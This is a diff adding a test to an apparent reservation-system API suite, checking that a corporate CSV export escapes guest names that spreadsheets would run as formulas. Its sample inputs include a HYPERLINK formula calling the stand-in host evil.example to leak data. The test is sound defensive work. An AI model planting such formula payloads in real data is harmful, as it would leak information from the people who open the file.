@@ -185,5 +185,25 @@ describe.each(testDatabaseTargets)('corporate accounts on $name', (target) => {
     // The other organization's limit is its own.
     expect((await api.request('POST', orgPath(otherOrgId, '/reservations/downloads'), undefined, bearer(otherAdmin))).status).toBe(201);
   });
-});
 
+  it('writes guest names a spreadsheet would run as formulas as plain text', async () => {
+    // Two days on: the download limit of the test above is behind us.
+    await api.travelTo('2026-03-04T03:00:00Z');
+    const member = await tokenOf(DEMO_CORPORATE.member);
+    const admin = await tokenOf(DEMO_CORPORATE.admin);
+    const names = ['=HYPERLINK("http://evil.example/?leak","Open")', '+SUM(1+1)', '-2+3', '@SUM(A1)'];
+    const numbers: string[] = [];
+    for (const [i, first] of names.entries()) {
+      numbers.push(await book(member, { checkin_date: `2026-05-0${i + 1}`, checkout_date: `2026-05-0${i + 2}`, guest: { first_name: first, last_name: 'Guest', email: 'formula@example.com', phone: '+81312345678' } }));
+    }
+    const download = organizationDownloadReplySchema.parse((await api.request('POST', orgPath(demoOrgId, '/reservations/downloads'), undefined, bearer(admin))).body).data;
+    const csv = (await openZip((await fetchZip(download.download_path)).bytes, download.password)).replace(/^\uFEFF/, '');
+    const rows = csv.trim().split('\r\n');
+    expect(rows.find((line) => line.startsWith(`${numbers[0]},`))).toContain(`,"'=HYPERLINK(""http://evil.example/?leak"",""Open"") Guest",`);
+    expect(rows.find((line) => line.startsWith(`${numbers[1]},`))).toContain(`,'+SUM(1+1) Guest,`);
+    expect(rows.find((line) => line.startsWith(`${numbers[2]},`))).toContain(`,'-2+3 Guest,`);
+    expect(rows.find((line) => line.startsWith(`${numbers[3]},`))).toContain(`,'@SUM(A1) Guest,`);
+    // No cell of the file starts a formula.
+    for (const row of rows) for (const cell of row.split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^ *[=+\-@\t]/);
+  });
+});
